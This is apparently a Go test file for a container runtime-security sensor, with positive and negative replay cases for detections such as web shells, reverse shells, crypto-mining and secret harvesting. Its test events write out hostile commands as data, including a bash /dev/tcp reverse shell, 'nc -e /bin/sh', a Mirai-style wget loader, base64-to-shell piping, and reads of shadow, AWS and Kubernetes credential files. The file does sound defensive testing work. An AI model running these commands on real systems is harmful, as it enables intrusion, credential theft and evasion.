package analytics

import (
	"slices"
	"testing"
	"time"

	"github.com/harrier-sec/harrier/api"
)

// Replay tests: every detection with at least one positive and one negative
// case on recorded-shape events. The same detections are exercised through
// the real sensor in tests/e2e (analytics_test.go).
type replayCase struct {
	name   string
	events []*api.Event
	want   string // detection that must fire ("" for none)
	not    []string
}

func replayCases() []replayCase {
	const cid = "c0ffee"
	ctr := inContainer(cid)
	sh := "/bin/sh"
	return []replayCase{
		{"web-shell: nginx child shell", []*api.Event{execEv(sh, []string{"sh", "-c", "id"}, parents("/usr/sbin/nginx"), ctr)}, "web-shell", nil},
		{"web-shell: busybox httpd cgi recon", []*api.Event{execEv("/bin/busybox", []string{"whoami"}, ctr, func(e *api.Event) {
			e.Ancestry = []*api.Ancestor{{Pid: 7, Exe: "/bin/busybox", Args: []string{"sh", "/www/cgi-bin/run"}}, {Pid: 6, Exe: "/bin/busybox", Args: []string{"httpd", "-f"}}}
		})}, "web-shell", nil},
		{"web-shell: serving python child shell", []*api.Event{
			listenEv("/usr/bin/python3", 77, ctr),
			execEv(sh, []string{"sh", "-c", "uname -a"}, ctr, func(e *api.Event) { e.Ancestry = []*api.Ancestor{{Pid: 77, Exe: "/usr/bin/python3"}} }),
		}, "web-shell", nil},
		{"no web-shell: python build script shell", []*api.Event{execEv(sh, []string{"sh", "-c", "make"}, parents("/usr/bin/python3"))}, "", []string{"web-shell"}},
		{"no web-shell: nginx starts nginx", []*api.Event{execEv("/usr/sbin/nginx", []string{"nginx", "-s", "reload"}, parents("/usr/sbin/nginx"))}, "", []string{"web-shell"}},

		{"network-scan: nmap", []*api.Event{execEv("/usr/bin/nmap", []string{"nmap", "-sT", "10.0.0.0/24"}, ctr)}, "network-scan", nil},
		{"network-scan: nc -z", []*api.Event{execEv("/bin/busybox", []string{"nc", "-zv", "10.0.0.1", "1-100"}, ctr)}, "network-scan", nil},
		{"network-scan: port fan-out", fanOut(25, func(i int) (string, uint32) { return "10.0.0.9", uint32(1000 + i) }), "network-scan", nil},
		{"no network-scan: few ports", fanOut(5, func(i int) (string, uint32) { return "10.0.0.9", uint32(1000 + i) }), "", []string{"network-scan"}},
		{"no network-scan: many hosts, all succeed", fanOut(30, func(i int) (string, uint32) { return "10.0.1." + itoa(i), 9100 }), "", []string{"network-scan"}},

		{"sa-token-access: cat token", []*api.Event{openEv("/bin/cat", "/var/run/secrets/kubernetes.io/serviceaccount/..2026/token", false, ctr)}, "sa-token-access", nil},
		{"no sa-token-access: app reads token", []*api.Event{openEv("/app/server", "/var/run/secrets/kubernetes.io/serviceaccount/token", false, ctr)}, "", []string{"sa-token-access"}},
		{"no sa-token-access: cat ca.crt", []*api.Event{openEv("/bin/cat", "/var/run/secrets/kubernetes.io/serviceaccount/ca.crt", false, ctr)}, "", []string{"sa-token-access"}},

		{"k8s-api-from-container: token then API", []*api.Event{
			openEv("/bin/cat", "/var/run/secrets/kubernetes.io/serviceaccount/token", false, ctr),
			connectEv("/usr/bin/curl", "10.96.0.1", 443, 0, ctr, at(time.Second)),
		}, "k8s-api-from-container", nil},
		{"no k8s-api-from-container: API without token", []*api.Event{connectEv("/usr/bin/curl", "10.96.0.1", 443, 0, ctr)}, "", []string{"k8s-api-from-container"}},

		{"common-bot: a program connects to IRC", []*api.Event{connectEv("/tmp/.x/kworker", "198.51.100.4", 6667, 0, ctr)}, "common-bot", nil},
		{"common-bot: Perl IRC bot", []*api.Event{execEv("/usr/bin/perl", []string{"perl", "-e", "print $s \"NICK b0t\\r\\nJOIN #cmd\\r\\n\""}, ctr)}, "common-bot", nil},
		{"common-bot: Mirai loader", []*api.Event{execEv(sh, []string{"sh", "-c", "cd /tmp || cd /var/run || cd /mnt; wget http://198.51.100.4/bins.sh"}, ctr)}, "common-bot", nil},
		{"common-bot: tsunami", []*api.Event{execEv("/tmp/tsunami", []string{"tsunami"}, ctr)}, "common-bot", nil},
		{"no common-bot: irssi on IRC, curl on 7001, IRC on loopback", []*api.Event{
			connectEv("/usr/bin/irssi", "198.51.100.4", 6697, 0, ctr),
			connectEv("/usr/bin/curl", "198.51.100.4", 7001, 0, ctr),
			connectEv("/usr/bin/python3", "127.0.0.1", 6667, 0, ctr),
			execEv(sh, []string{"sh", "-c", "cd /tmp && make"}, ctr),
		}, "", []string{"common-bot"}},
		{"privileged-container-running: a program of a privileged container", []*api.Event{execEv("/usr/sbin/nginx", []string{"nginx"}, ctr, privileged)}, "privileged-container-running", []string{"privileged-exec"}},
		{"privileged-exec: a shell in a privileged container", []*api.Event{execEv(sh, []string{"sh"}, ctr, privileged)}, "privileged-exec", nil},
		{"privileged-exec: nsenter in a privileged container", []*api.Event{execEv("/usr/bin/nsenter", []string{"nsenter", "-t", "1", "-m", "sh"}, ctr, privileged)}, "privileged-exec", nil},
		{"no privileged-*: a shell in a default container, runc in a privileged one", []*api.Event{
			execEv(sh, []string{"sh"}, ctr),
			execEv("/usr/bin/runc", []string{"runc", "init"}, ctr, privileged, parents("/usr/bin/containerd-shim-runc-v2")),
		}, "", []string{"privileged-container-running", "privileged-exec"}},
		{"renamed-tool: xmrig's content as kworker", []*api.Event{contentEv("/tmp/.x/kworker", []string{"xmrig"}, ctr)}, "renamed-tool", nil},
		{"no renamed-tool: xmrig as itself, nmap in its versioned path, a plain binary", []*api.Event{
			contentEv("/opt/xmrig-6.21/xmrig", []string{"xmrig"}, ctr),
			contentEv("/usr/lib/nmap/nmap-7.94", []string{"nmap"}, ctr),
			contentEv("/usr/bin/kworker", nil, ctr),
		}, "", []string{"renamed-tool"}},
		{"cloud-metadata", []*api.Event{connectEv("/usr/bin/curl", "169.254.169.254", 80, 0, ctr)}, "cloud-metadata", nil},
		{"no cloud-metadata on host", []*api.Event{connectEv("/usr/bin/cloud-init", "169.254.169.254", 80, 0)}, "", []string{"cloud-metadata"}},

		{"sensitive-files: cat shadow (failed)", []*api.Event{openFail("/bin/cat", "/etc/shadow", -13, ctr)}, "sensitive-files", nil},
		{"sensitive-files: aws creds", []*api.Event{openEv("/usr/bin/python3", "/root/.aws/credentials", false)}, "sensitive-files", nil},
		{"no sensitive-files: sshd reads shadow", []*api.Event{openEv("/usr/sbin/sshd", "/etc/shadow", false)}, "", []string{"sensitive-files"}},
		{"no sensitive-files: systemd-sysusers", []*api.Event{openFail("/usr/bin/systemd-sysusers", "/etc/gshadow", -2, ctr)}, "", []string{"sensitive-files"}},
		{"no sensitive-files: passwd is public", []*api.Event{openEv("/bin/cat", "/etc/passwd", false)}, "", []string{"sensitive-files"}},

		{"secret-recon: grep secret var", []*api.Event{execEv("/bin/grep", []string{"grep", "-r", "AWS_SECRET_ACCESS_KEY", "/"}, ctr)}, "secret-recon", nil},
		{"secret-recon: env | grep", []*api.Event{execEv(sh, []string{"sh", "-c", "env | grep -i key"}, ctr)}, "secret-recon", nil},
		{"secret-recon: find id_rsa", []*api.Event{execEv("/usr/bin/find", []string{"find", "/", "-name", "id_rsa"}, ctr)}, "secret-recon", nil},
		{"no secret-recon: grep error log", []*api.Event{execEv("/bin/grep", []string{"grep", "ERROR", "/var/log/app.log"})}, "", []string{"secret-recon"}},

		{"cpu-optimization: modprobe msr", []*api.Event{execEv("/sbin/modprobe", []string{"modprobe", "msr", "allow_writes=on"}, ctr)}, "cpu-optimization", nil},
		{"cpu-optimization: hugepages write", []*api.Event{openEv(sh, "/proc/sys/vm/nr_hugepages", true, ctr)}, "cpu-optimization", nil},
		{"cpu-optimization: sysctl hugepages", []*api.Event{execEv("/sbin/sysctl", []string{"sysctl", "-w", "vm.nr_hugepages=1280"}, ctr)}, "cpu-optimization", nil},
		{"no cpu-optimization: read hugepages", []*api.Event{openEv("/bin/cat", "/proc/sys/vm/nr_hugepages", false)}, "", []string{"cpu-optimization"}},

		{"ld-preload: write", []*api.Event{openEv(sh, "/etc/ld.so.preload", true, ctr)}, "ld-preload", nil},
		{"ld-preload: failed write by non-root", []*api.Event{openFailWrite(sh, "/etc/ld.so.preload", -13, ctr)}, "ld-preload", nil},
		{"ld-preload: LD_PRELOAD from tmp", []*api.Event{execEv(sh, []string{"sh", "-c", "LD_PRELOAD=/tmp/x.so ls"}, ctr)}, "ld-preload", nil},
		{"ld-preload: LD_PRELOAD from /dev/shm in the environment", []*api.Event{ldPreloadExec("/usr/lib/libjemalloc.so.2:/dev/shm/.x.so", ctr)}, "ld-preload", nil},
		{"ld-preload: LD_PRELOAD from a memfd in the environment", []*api.Event{ldPreloadExec("/proc/self/fd/3", ctr)}, "ld-preload", nil},
		{"no ld-preload: jemalloc preloaded from /usr/lib", []*api.Event{ldPreloadExec("/usr/lib/x86_64-linux-gnu/libjemalloc.so.2", ctr)}, "", []string{"ld-preload"}},
		{"no ld-preload: loader read", []*api.Event{openLoader("/usr/bin/ls", "/etc/ld.so.preload")}, "", []string{"ld-preload"}},

		{"miner-download", []*api.Event{execEv("/usr/bin/curl", []string{"curl", "-o", "/tmp/xmrig", "http://10.0.0.5/xmrig"}, ctr)}, "miner-download", nil},
		{"no miner-download: normal download", []*api.Event{execEv("/usr/bin/curl", []string{"curl", "-o", "/tmp/app.tgz", "http://10.0.0.5/app.tgz"}, ctr)}, "", []string{"miner-download"}},

		{"drift-binary: upper layer", []*api.Event{execEv("/tmp/payload", []string{"/tmp/payload"}, ctr, origin(&api.ExeOrigin{OverlayUpper: true}))}, "drift-binary", nil},
		{"no drift-binary: image binary", []*api.Event{execEv("/bin/ls", []string{"ls"}, ctr)}, "", []string{"drift-binary"}},
		{"no drift-binary: package install", []*api.Event{execEv("/usr/bin/newtool", []string{"newtool"}, ctr, origin(&api.ExeOrigin{OverlayUpper: true}), parents("/usr/bin/dpkg", "/usr/bin/apt-get"))}, "", []string{"drift-binary"}},

		{"mining: xmrig exec", []*api.Event{execEv("/tmp/xmrig", []string{"./xmrig", "-o", "stratum+tcp://pool:3333"}, ctr)}, "mining", nil},
		{"mining: pool port", []*api.Event{connectEv("/tmp/x", "10.0.0.7", 3333, 0, ctr)}, "mining", nil},
		{"no mining: https", []*api.Event{connectEv("/usr/bin/curl", "10.0.0.7", 443, 0, ctr)}, "", []string{"mining"}},

		{"download-exec", []*api.Event{
			execEv("/usr/bin/wget", []string{"wget", "http://10.0.0.5/tool"}, ctr, cwd("/tmp")),
			execEv("/tmp/tool", []string{"./tool"}, ctr, at(30*time.Second), cwd("/tmp")),
		}, "download-exec", nil},
		{"no download-exec: downloaded file read, not run", []*api.Event{
			execEv("/usr/bin/wget", []string{"wget", "http://10.0.0.5/report.txt"}, ctr, cwd("/tmp")),
			execEv("/bin/cat", []string{"cat", "report.txt"}, ctr, at(time.Second), cwd("/tmp")),
		}, "", []string{"download-exec"}},
		{"download-exec: script run by a shell", []*api.Event{
			execEv("/usr/bin/wget", []string{"wget", "http://10.0.0.5/install.sh"}, ctr, cwd("/tmp")),
			execEv("/bin/sh", []string{"sh", "install.sh"}, ctr, at(time.Second), cwd("/tmp")),
		}, "download-exec", nil},
		{"no download-exec: other container", []*api.Event{
			execEv("/usr/bin/wget", []string{"wget", "-O", "/tmp/tool", "http://10.0.0.5/tool"}, ctr),
			execEv("/tmp/tool", []string{"/tmp/tool"}, inContainer("other"), at(time.Second)),
		}, "", []string{"download-exec"}},
		{"no download-exec: too late", []*api.Event{
			execEv("/usr/bin/curl", []string{"curl", "-o", "/tmp/tool", "http://10.0.0.5/tool"}, ctr),
			execEv("/tmp/tool", []string{"/tmp/tool"}, ctr, at(time.Hour)),
		}, "", []string{"download-exec"}},

		{"reverse-shell: bash /dev/tcp", []*api.Event{execEv("/bin/bash", []string{"bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"}, ctr)}, "reverse-shell", nil},
		{"reverse-shell: nc -e", []*api.Event{execEv("/bin/busybox", []string{"nc", "10.0.0.1", "4444", "-e", "/bin/sh"}, ctr)}, "reverse-shell", nil},
		{"no reverse-shell: nc port check", []*api.Event{execEv("/bin/nc", []string{"nc", "10.0.0.1", "80"}, ctr)}, "", []string{"reverse-shell"}},

		{"base64-exec", []*api.Event{execEv(sh, []string{"sh", "-c", "echo aWQK | base64 -d | sh"}, ctr)}, "base64-exec", nil},
		{"no base64-exec: decode to file", []*api.Event{execEv(sh, []string{"sh", "-c", "base64 -d cert.b64 > cert.pem"}, ctr)}, "", []string{"base64-exec"}},

		{"user-added: useradd in container", []*api.Event{execEv("/usr/sbin/useradd", []string{"useradd", "evil"}, ctr)}, "user-added", nil},
		{"user-added: write passwd", []*api.Event{openEv(sh, "/etc/passwd", true, ctr)}, "user-added", nil},
		{"no user-added: host admin", []*api.Event{execEv("/usr/sbin/useradd", []string{"useradd", "alice"})}, "", []string{"user-added"}},
		{"no user-added: package postinst", []*api.Event{execEv("/usr/sbin/adduser", []string{"adduser", "--system", "www"}, ctr, parents(sh, "/usr/bin/dpkg"))}, "", []string{"user-added"}},

		{"history-cleared: truncate", []*api.Event{openTrunc("/usr/bin/truncate", "/root/.bash_history")}, "history-cleared", nil},
		{"history-cleared: rm log", []*api.Event{unlinkEv("/bin/rm", "/var/log/auth.log", ctr)}, "history-cleared", nil},
		{"no history-cleared: bash saves history", []*api.Event{openTrunc("/bin/bash", "/root/.bash_history")}, "", []string{"history-cleared"}},
		{"no history-cleared: logrotate", []*api.Event{unlinkEv("/usr/sbin/logrotate", "/var/log/syslog.7.gz")}, "", []string{"history-cleared"}},

		{"new-namespace: unshare in container", []*api.Event{nsEv("/usr/bin/unshare", ctr)}, "new-namespace", nil},
		{"no new-namespace: host unshare", []*api.Event{nsEv("/usr/bin/unshare")}, "", []string{"new-namespace"}},
		{"no new-namespace: a system container's systemd sandboxes a service", []*api.Event{nsEv("/usr/lib/systemd/systemd", ctr)}, "", []string{"new-namespace"}},
		{"new-namespace: a systemd written into the container", []*api.Event{nsEv("/usr/lib/systemd/systemd", ctr, origin(&api.ExeOrigin{OverlayUpper: true}))}, "new-namespace", nil},

		{"kubelet-kubeconfig", []*api.Event{openEv("/bin/cat", "/var/lib/kubelet/kubeconfig", false, ctr)}, "kubelet-kubeconfig", nil},
		{"no kubelet-kubeconfig: kubelet", []*api.Event{openEv("/usr/bin/kubelet", "/var/lib/kubelet/kubeconfig", false)}, "", []string{"kubelet-kubeconfig"}},

		{"ssh-keys", []*api.Event{openEv(sh, "/root/.ssh/authorized_keys", true)}, "ssh-keys", nil},
		{"no ssh-keys: sshd reads", []*api.Event{openEv("/usr/sbin/sshd", "/root/.ssh/authorized_keys", false)}, "", []string{"ssh-keys"}},

		{"attack-tool: peirates", []*api.Event{execEv("/tmp/peirates", []string{"peirates"}, ctr)}, "attack-tool", nil},
		{"attack-tool: sh linpeas.sh", []*api.Event{execEv(sh, []string{"sh", "/tmp/linpeas.sh"}, ctr)}, "attack-tool", nil},
		{"no attack-tool", []*api.Event{execEv("/bin/ls", []string{"ls", "-l"}, ctr)}, "", []string{"attack-tool"}},

		{"fileless: memfd", []*api.Event{execEv("/memfd:x (deleted)", []string{"x"}, origin(&api.ExeOrigin{Memfd: true}))}, "fileless", nil},
		{"no fileless: runc init as the sensor sees it (exe /)", []*api.Event{execEv("/", []string{"/usr/sbin/runc", "init"}, origin(&api.ExeOrigin{Deleted: true}), ctr)}, "", []string{"fileless", "drift-binary"}},
		{"no fileless: runc clone", []*api.Event{execEv("/memfd:runc_cloned:/proc/self/exe (deleted)", []string{"runc", "init"}, origin(&api.ExeOrigin{Memfd: true}))}, "", []string{"fileless"}},

		{"kernel-module: finit_module in container", []*api.Event{moduleEv(ctr)}, "kernel-module", nil},
		{"no kernel-module on host", []*api.Event{moduleEv()}, "", []string{"kernel-module"}},

		{"ptrace-injection: attach", []*api.Event{ptraceEv("/tmp/inject", 16, ctr)}, "ptrace-injection", nil},
		{"no ptrace-injection: host strace", []*api.Event{ptraceEv("/usr/bin/strace", 0x4206)}, "", []string{"ptrace-injection"}},

		{"sensor-tamper: systemctl stop", []*api.Event{execEv("/bin/systemctl", []string{"systemctl", "stop", "harrier-agent"})}, "sensor-tamper", nil},
		{"no sensor-tamper: systemctl status", []*api.Event{execEv("/bin/systemctl", []string{"systemctl", "status", "harrier-agent"})}, "", []string{"sensor-tamper"}},

		{"db-spawns-shell", []*api.Event{execEv(sh, []string{"sh", "-c", "id"}, parents("/usr/lib/postgresql/15/bin/postgres"), ctr)}, "db-spawns-shell", nil},
		{"no db-spawns-shell: psql from shell", []*api.Event{execEv("/usr/bin/psql", []string{"psql"}, parents("/bin/bash"))}, "", []string{"db-spawns-shell"}},

		{"reverse-shell: shell on a socket", []*api.Event{stdioExec(sh, "10.0.0.1", 4444, ctr)}, "reverse-shell", nil},
		{"sensor-tamper: kill harrier", []*api.Event{signalEv("/bin/kill", 15)}, "sensor-tamper", nil},
		{"no sensor-tamper: systemd stops harrier", []*api.Event{signalEv("/lib/systemd/systemd", 15, pid(1))}, "", []string{"sensor-tamper"}},
		{"ioc-domain: test domain", []*api.Event{dnsEv("/usr/bin/curl", api.IOCTestDomain, ctr)}, "ioc-domain", nil},
		{"ioc-domain: subdomain", []*api.Event{dnsEv("/usr/bin/curl", "a.b."+api.IOCTestDomain, ctr)}, "ioc-domain", nil},
		{"no ioc-domain", []*api.Event{dnsEv("/usr/bin/curl", "example.org", ctr)}, "", []string{"ioc-domain"}},
		{"download-exec with chmod", []*api.Event{
			execEv("/usr/bin/curl", []string{"curl", "-O", "http://10.0.0.5/dl/miner"}, ctr, cwd("/tmp")),
			chmodEv(sh, "/tmp/miner", 0o755, ctr),
			execEv("/tmp/miner", []string{"./miner"}, ctr, cwd("/tmp")),
		}, "download-exec", nil},
		{"test-alert", []*api.Event{execEv(sh, []string{"sh", "-c", "echo HARRIER-TEST-ALERT"})}, "test-alert", nil},
		{"no test-alert", []*api.Event{execEv(sh, []string{"sh", "-c", "echo hello"})}, "", []string{"test-alert"}},
	}
}

func TestDetectionsReplay(t *testing.T) {
	for _, tc := range replayCases() {
		t.Run(tc.name, func(t *testing.T) {
			e := newTestEngine(t, Config{})
			ids, _ := run(e, tc.events...)
			if tc.want != "" && !slices.Contains(ids, tc.want) {
				t.Errorf("want %s among alerts, got %v", tc.want, ids)
			}
			for _, n := range tc.not {
				if slices.Contains(ids, n) {
					t.Errorf("unexpected %s (all alerts: %v)", n, ids)
				}
			}
		})
	}
}

func itoa(i int) string { return portString(uint32(i)) }

func fanOut(n int, dst func(int) (string, uint32)) []*api.Event {
	var evs []*api.Event
	for i := 0; i < n; i++ {
		ip, port := dst(i)
		res := int64(-111)
		if ip != "10.0.0.9" {
			res = 0
		}
		evs = append(evs, connectEv("/bin/busybox", ip, port, res, inContainer("c0ffee"), at(time.Duration(i)*10*time.Millisecond)))
	}
	return evs
}

func listenEv(exe string, tgid uint32, opts ...evOpt) *api.Event {
	e := base(api.EventKind_EVENT_KIND_LISTEN, exe, []string{exe}, append(opts, pid(tgid)))
	e.Detail = &api.Event_Listen{Listen: &api.Listen{Local: &api.SocketAddress{Family: "ipv4", Ip: "0.0.0.0", Port: 8080}, Protocol: api.Protocol_PROTOCOL_TCP}}
	return e
}

func openFail(exe, path string, res int64, opts ...evOpt) *api.Event {
	e := openEv(exe, path, false, opts...)
	e.GetFileOpen().Result = res
	return e
}

func openFailWrite(exe, path string, res int64, opts ...evOpt) *api.Event {
	e := openEv(exe, path, true, opts...)
	e.GetFileOpen().Result = res
	return e
}

func openLoader(exe, path string) *api.Event {
	e := openEv(exe, path, false)
	e.GetFileOpen().Flags = 0o2000000 // O_RDONLY|O_CLOEXEC, as ld.so opens it
	return e
}

func openTrunc(exe, path string, opts ...evOpt) *api.Event {
	e := openEv(exe, path, true, opts...)
	e.GetFileOpen().Truncate = true
	return e
}

func unlinkEv(exe, path string, opts ...evOpt) *api.Event {
	e := base(api.EventKind_EVENT_KIND_FILE_UNLINK, exe, []string{exe, path}, opts)
	e.Detail = &api.Event_FileUnlink{FileUnlink: &api.FileUnlink{Path: path}}
	return e
}

func nsEv(exe string, opts ...evOpt) *api.Event {
	e := base(api.EventKind_EVENT_KIND_NAMESPACE_CHANGE, exe, []string{"unshare", "-m"}, opts)
	e.Detail = &api.Event_NamespaceChange{NamespaceChange: &api.NamespaceChange{Syscall: "unshare", Flags: 0x20000, Namespaces: []string{"mnt"}, Result: -1}}
	return e
}

func moduleEv(opts ...evOpt) *api.Event {
	e := base(api.EventKind_EVENT_KIND_MODULE_LOAD, "/sbin/insmod", []string{"insmod", "/tmp/rk.ko"}, opts)
	e.Detail = &api.Event_ModuleLoad{ModuleLoad: &api.ModuleLoad{Syscall: "finit_module", Path: "/tmp/rk.ko", Result: -1}}
	return e
}

func ptraceEv(exe string, req int64, opts ...evOpt) *api.Event {
	e := base(api.EventKind_EVENT_KIND_PTRACE, exe, []string{exe}, opts)
	e.Detail = &api.Event_Ptrace{Ptrace: &api.Ptrace{Request: req, TargetPid: 1}}
	return e
}

func stdioExec(exe, ip string, port uint32, opts ...evOpt) *api.Event {
	e := execEv(exe, []string{baseName(exe)}, opts...)
	e.GetExec().StdioSockets = []*api.StdioSocket{{Fd: 0, Family: "ipv4", Remote: &api.SocketAddress{Family: "ipv4", Ip: ip, Port: port}}}
	return e
}

func signalEv(exe string, sig int32, opts ...evOpt) *api.Event {
	e := base(api.EventKind_EVENT_KIND_SIGNAL, exe, []string{baseName(exe), "-15", "999"}, opts)
	e.Detail = &api.Event_Signal{Signal: &api.Signal{TargetPid: 999, Signal: sig}}
	return e
}

func dnsEv(exe, name string, opts ...evOpt) *api.Event {
	e := base(api.EventKind_EVENT_KIND_DNS_QUERY, exe, []string{baseName(exe)}, opts)
	e.Detail = &api.Event_DnsQuery{DnsQuery: &api.DnsQuery{Name: name, Qtype: 1, Server: &api.SocketAddress{Family: "ipv4", Ip: "10.0.0.53", Port: 53}}}
	return e
}

func chmodEv(exe, path string, mode uint32, opts ...evOpt) *api.Event {
	e := base(api.EventKind_EVENT_KIND_CHMOD, exe, []string{"chmod", "+x", path}, opts)
	e.Detail = &api.Event_Chmod{Chmod: &api.Chmod{Path: path, Mode: mode}}
	return e
}

// ldPreloadExec is an exec whose environment set LD_PRELOAD (not on its
// command line).
func ldPreloadExec(value string, opts ...evOpt) *api.Event {
	e := execEv("/usr/bin/python3", []string{"python3", "app.py"}, opts...)
	e.GetExec().LdPreload = value
	return e
}
